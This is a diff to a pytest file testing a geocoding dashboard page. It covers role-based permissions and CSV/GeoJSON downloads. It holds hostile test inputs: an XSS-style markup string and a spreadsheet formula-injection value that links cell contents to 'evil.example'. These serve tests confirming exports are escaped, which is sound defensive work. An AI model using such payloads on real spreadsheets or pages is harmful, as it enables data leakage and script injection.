@@ -1,5 +1,7 @@
 """The Geocoding page: names in, decisions with their candidates out, a person's own one saved and undone."""
 
+import csv
+import io
 import json
 import re
 import shutil
@@ -8,15 +10,17 @@ from pathlib import Path
 import pytest
 from streamlit.testing.v1 import AppTest
 
+from dashboard.domain.access import Mode, Role
 from dashboard.domain.records import Place
+from dashboard.errors import PermissionDeniedError
 from dashboard.exports.package import write_package
 from dashboard.importers.package import DataPackage
 from dashboard.runtime import runtime
-from dashboard.store.repository import open_repository
+from dashboard.store.store import open_store
 from dashboard.ui.geocoding import decisions
-from dashboard.ui.geocoding import places as places_ui
 from dashboard.ui.geocoding.job import Job
-from dashboard.workflows.name_lists import names_of_text
+from dashboard.workflows.audience import EXACT
+from dashboard.workflows.name_lists import names_of_column, names_of_text, read_name_file
 
 ROOT = Path(__file__).parents[2] / "dashboard"
 HOSTILE = "<img src=x onerror=alert(1)> **b** ![x](http://canary.invalid/x.png) $x$ :red[r]"
@@ -73,17 +77,6 @@ class Opened:
 
 
 @pytest.fixture
-def own_store(seeded_store, tmp_path, monkeypatch):
-    # AppTest brings a signed-in user of its own; a local session has none.
-    monkeypatch.setattr(places_ui, "_signed_in", lambda: "")
-    path = tmp_path / "own.sqlite"
-    shutil.copy(seeded_store.removeprefix("sqlite:///"), path)
-    url = f"sqlite:///{path}"
-    monkeypatch.setenv("ARSENAL_ATLAS_DB", url)
-    return url
-
-
-@pytest.fixture
 def gazetteer(gazetteer_file, monkeypatch):
     monkeypatch.setenv("ARSENAL_ATLAS_GAZETTEER", str(gazetteer_file))
 
@@ -111,9 +104,9 @@ def decide(opened, name="A. Tester", reason="The permit names the plot", point="
 
 
 def places(url):
-    repository = open_repository(url)
-    found = {place.name: place for place in repository.read_table(Place)}
-    repository.engine.dispose()
+    store = open_store(url)
+    found = {place.name: place for place in store.repository.read_table(Place)}
+    store.close()
     return found
 
 
@@ -157,7 +150,7 @@ def test_the_page_builds_what_is_missing(own_store, gazetteer_file, tmp_path, mo
         progress(1, 2)
         shutil.copy(gazetteer_file, path)
 
-    monkeypatch.setattr(runtime(), "build_gazetteer", build, raising=True)
+    monkeypatch.setattr(runtime().gazetteers, "build", build, raising=True)
     opened.press("Build it now (about half a minute)")
     assert list(opened.table["Status"]) == ["resolved"]
 
@@ -184,6 +177,38 @@ def test_pasted_names_are_decided_and_kept_in_the_address(own_store, gazetteer):
     assert opened.at.query_params["names"] == "Rabat; MA\n; MA"
 
 
+@pytest.fixture
+def files(monkeypatch):
+    """What the page offers to download, as functions that make it."""
+    made = {}
+    monkeypatch.setattr("streamlit.download_button", lambda title, data, **_: made.update({title: data}))
+    return made
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/"&A1)', "\uff1d1+1", "@SUM(1)", "-7", "Rabat"]
+
+
+def test_no_name_is_a_formula_in_the_file_and_all_of_them_come_back(own_store, gazetteer, files):
+    opened = open_page("\n".join(FORMULAS))
+    written = files["CSV"]()
+    rows = list(csv.DictReader(io.StringIO(written.decode(), newline="")))
+    assert [row["name"] for row in rows] == [f"'{FORMULAS[0]}", "'\uff1d1+1", "'@SUM(1)", "-7", "Rabat"]
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "@", "+"))]
+    table = read_name_file(written, "places.csv")
+    again = names_of_column(table, table.columns.index("name"))
+    assert [one.name for one in again.names] == [one.name for one in opened.job.names] == FORMULAS
+
+
+def test_files_leave_only_for_those_who_may_take_them(visitors, gazetteer, files, monkeypatch):
+    visitors.enter("Ann", Role.READER)
+    open_page(NAMES)
+    assert set(files) == {"CSV", "GeoJSON"}
+    monkeypatch.setattr(type(runtime()), "mode", Mode.MAINTENANCE)
+    for make in files.values():
+        with pytest.raises(PermissionDeniedError, match="maintenance"):
+            make()
+
+
 @pytest.mark.parametrize("status", ["resolved", "ambiguous", "unknown"])
 def test_the_list_narrows_to_one_outcome(opened, status):
     opened.field("segmented_control", "geo_status_").set_value(status).run()
@@ -203,7 +228,7 @@ def test_a_row_shows_its_candidates_on_table_and_map(opened):
     state = opened.map["state"]
     assert state["selected"] == ids[0]
     version = opened.map["payload"].split("/")[-2]
-    assert ids[1].encode() in runtime().payload(version)
+    assert ids[1].encode() in runtime().view(EXACT).payload(version)
     assert "clock=off" in opened.map["document"]
     opened.select("geo_candidates_", 2)
     assert opened.map["state"]["selected"] == ids[2]
@@ -313,15 +338,26 @@ def test_a_stated_country_is_the_place_s_own_and_wins_for_it(own_store, gazettee
     assert list(opened.table["Status"]) == ["resolved"]
 
 
-def test_who_is_signed_in_needs_no_name(opened, own_store, monkeypatch):
-    monkeypatch.setattr(places_ui, "_signed_in", lambda: "reviewer@example.org")
+def test_who_is_signed_in_needs_no_name(visitors, own_store, gazetteer):
+    reviewer = visitors.enter("Rev", Role.REVIEWER)
+    opened = open_page(NAMES)
     opened.select("geo_table_", 2)
     assert opened.field("text_input", "geo_who_").disabled
     opened.field("text_input", "geo_point_").set_value("33.6012, -7.1345")
     opened.field("text_input", "geo_reason_").set_value("The permit names the plot")
     opened.press("Save as hand-decided place")
     (change,) = runtime().repository.changes("pl-zzyzzx-nowhere")
-    assert change.who == "reviewer@example.org"
+    assert change.who == reviewer.name
+
+
+@pytest.mark.parametrize("role", [Role.READER, Role.CONTRIBUTOR])
+def test_who_is_no_reviewer_looks_up_but_decides_nothing(visitors, gazetteer, role):
+    visitors.enter("Ann", role)
+    opened = open_page(NAMES)
+    assert list(opened.table["Status"]) == ["resolved", "ambiguous", "unknown"]
+    opened.select("geo_table_", 2)
+    assert "Reviewers can decide" in opened.words
+    assert not [b for b in opened.at.button if b.label == "Save as hand-decided place"]
 
 
 def test_places_of_the_package_say_why_they_stay(opened):
